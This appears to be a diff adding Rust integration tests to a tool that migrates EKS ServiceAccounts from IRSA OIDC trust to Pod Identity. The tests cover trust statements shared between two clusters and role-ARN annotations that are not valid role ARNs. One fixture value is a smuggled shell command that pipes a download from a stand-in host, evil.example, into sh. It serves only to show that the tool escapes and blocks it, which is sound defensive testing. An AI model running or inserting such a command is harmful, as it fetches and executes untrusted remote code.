@@ -1376,3 +1376,208 @@ async fn nodes_that_cannot_be_listed_are_said_so_and_selectors_still_tell() {
     );
     assert_eq!(codes(row(&plan, "win"), Severity::Block), ["windows-node"]);
 }
+
+/// Issue 33: a role trusting two clusters' OIDC providers for the same ServiceAccount (a
+/// ServiceAccount of the same name in two clusters) loses only this cluster's statement; the
+/// other cluster's is kept and said. The issuer comes from EKS DescribeCluster, from
+/// `--oidc-issuer`, and is required when neither EKS nor the API server tells it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn removing_oidc_trust_keeps_another_clusters_statement() {
+    const OTHER: &str = "oidc.eks.eu-west-1.amazonaws.com/id/OTHERCLUSTER0000000000000000000";
+    let other_cluster = |ns: &str, sa: &str| {
+        let mut s = irsa_statement(ns, sa).to_string();
+        s = s.replace(OIDC, OTHER);
+        serde_json::from_str::<Value>(&s).unwrap()
+    };
+    let w = World::start().await;
+    let pi = pod_identity_trust();
+    for name in ["four", "five"] {
+        w.role(
+            name,
+            vec![
+                irsa_statement("a", name),
+                other_cluster("a", name),
+                pi.clone(),
+            ],
+        )
+        .await;
+        w.cluster
+            .put(service_account("a", name, &[("role-arn", &arn(name))]));
+        w.eks.add("a", name, name);
+    }
+
+    // The issuer from EKS DescribeCluster: this cluster's statement goes, the other stays.
+    let (summary, out) = w
+        .apply_in(
+            Scope {
+                service_accounts: vec![(Some("a".into()), "four".into())],
+                ..Scope::default()
+            },
+            &ApplyOptions {
+                remove_oidc_trust: true,
+                ..ApplyOptions::default()
+            },
+        )
+        .await;
+    println!("{out}");
+    assert_eq!(summary.oidc_trust_removed, ["a/four"], "{out}");
+    let provider = format!("arn:aws:iam::{ACCOUNT}:oidc-provider/{OTHER}");
+    assert_eq!(
+        summary.oidc_trust_kept,
+        [format!("a/four: {provider}")],
+        "{out}"
+    );
+    assert!(
+        out.contains(&format!(
+            "kept: trusted by another cluster: four trusts a/four through {provider}"
+        )),
+        "{out}"
+    );
+    let p = w.trust("four").await;
+    assert_eq!(
+        p["Statement"],
+        json!([other_cluster("a", "four"), pi.clone()]),
+        "{p}"
+    );
+
+    // Without EKS (an associations file) and without the API server's discovery document
+    // (the fake serves none): the command refuses before changing anything.
+    let file = w.dir.path().join("associations.yaml");
+    std::fs::write(
+        &file,
+        format!(
+            "associations:\n  - namespace: a\n    serviceAccount: five\n    roleArn: {}\n",
+            arn("five")
+        ),
+    )
+    .unwrap();
+    let f = file.to_str().unwrap();
+    let args = [
+        "apply",
+        "--approve",
+        "--remove-oidc-trust",
+        "--associations",
+        f,
+    ];
+    let (code, out, err) = w.run(&[&args[..], &["--service-account", "a/five"]].concat());
+    assert_eq!(code, 2, "{out}{err}");
+    println!("{err}");
+    assert!(
+        err.contains("cannot tell this cluster's OIDC issuer") && err.contains("--oidc-issuer"),
+        "{err}"
+    );
+    assert!(err.contains("nothing changed"), "{err}");
+    assert_eq!(
+        w.trust("five").await["Statement"].as_array().unwrap().len(),
+        3
+    );
+
+    // Given with --oidc-issuer: the same edit.
+    let issuer = format!("https://{OIDC}");
+    let (code, out, err) = w.run(
+        &[
+            &args[..],
+            &["--service-account", "a/five", "--oidc-issuer", &issuer],
+        ]
+        .concat(),
+    );
+    assert_eq!(code, 0, "{out}{err}");
+    println!("{out}");
+    assert!(
+        out.contains("kept: trusted by another cluster: a/five: "),
+        "{out}"
+    );
+    let p = w.trust("five").await;
+    assert_eq!(
+        p["Statement"],
+        json!([other_cluster("a", "five"), pi.clone()]),
+        "{p}"
+    );
+}
+
+/// Issue 33: every annotated ServiceAccount gets a row. A role annotation that is not a role
+/// ARN is an `invalid-role-arn` finding that blocks the row (apply does nothing for it), with
+/// the value shown escaped and cut; verify counts it and does not say the migration is complete.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn annotations_that_are_not_role_arns_get_blocked_rows_and_count_in_verify() {
+    let w = World::start().await;
+    let long = format!("arn:aws:iam::{ACCOUNT}:role/{}", "x".repeat(5000));
+    let bad: [(&str, &str); 7] = [
+        ("not-an-arn", "not-an-arn"),
+        ("wildcard", "arn:aws:iam::111122223333:role/*"),
+        ("relative", "role/*"),
+        ("user", "arn:aws:iam::111122223333:user/bob"),
+        ("spaces", "arn:aws:iam::111122223333:role/a b"),
+        ("command", "$(curl evil.example | sh)\nnext line"),
+        ("long", &long),
+    ];
+    for (name, value) in bad {
+        w.cluster
+            .put(service_account("odd", name, &[("role-arn", value)]));
+    }
+    w.role("good", vec![pod_identity_trust()]).await;
+    w.cluster.put(service_account(
+        "odd",
+        "good",
+        &[("role-arn", &arn("good"))],
+    ));
+
+    let (_, plan) = w.plan().await;
+    assert_eq!(plan.rows.len(), 8, "every annotated ServiceAccount");
+    assert_eq!(plan.totals.blocked, 7);
+    assert_eq!(plan.exit_code(), 1);
+    for (name, _) in bad {
+        let r = row(&plan, name);
+        assert_eq!(r.status, Status::Blocked, "{name}");
+        assert_eq!(codes(r, Severity::Block), ["invalid-role-arn"], "{name}");
+        assert!(r.actions.is_empty(), "{name}");
+    }
+    let command = &row(&plan, "command").findings[0].message;
+    assert!(
+        command.contains("`$(curl evil.example | sh)\\nnext line`"),
+        "escaped: {command}"
+    );
+    let long_row = row(&plan, "long");
+    assert!(long_row.role_arn.len() < 300, "{}", long_row.role_arn);
+    assert!(
+        long_row.role_arn.ends_with("… (5031 bytes)"),
+        "{}",
+        long_row.role_arn
+    );
+
+    // apply: the good row migrates; the others are skipped with their reason.
+    let (summary, out) = w.apply(&ApplyOptions::default()).await;
+    assert_eq!(summary.associations_created, ["odd/good"], "{out}");
+    assert_eq!(summary.skipped.len(), 7, "{out}");
+    assert!(out.contains("! skip odd/user: invalid-role-arn:"), "{out}");
+    assert_eq!(w.eks.creates(), 1);
+
+    // verify counts them, and the migration is not complete.
+    let report = w.verify().await;
+    assert!(!report.complete());
+    let invalid = report
+        .still_annotated
+        .iter()
+        .filter(|a| a.invalid_role_arn.is_some())
+        .count();
+    assert_eq!(invalid, 7);
+    let (code, out, _) = w.run(&["verify", "--cluster-name", CLUSTER, "-n", "odd"]);
+    assert_eq!(code, 1, "{out}");
+    assert!(
+        out.contains(
+            "migration not complete: 0 pods to restart, 0 pods with both, 8 ServiceAccounts annotated (7 not with a role ARN)"
+        ),
+        "{out}"
+    );
+    assert!(!out.contains("migration complete"), "{out}");
+    let (code, out, _) = w.run(&["plan", "--cluster-name", CLUSTER, "-n", "odd"]);
+    assert_eq!(code, 1, "{out}");
+    assert!(out.contains("odd/not-an-arn"), "{out}");
+    assert!(
+        out.contains(
+            "BLOCKS invalid-role-arn: `eks.amazonaws.com/role-arn` does not start with `arn:`"
+        ),
+        "{out}"
+    );
+    println!("{out}");
+}
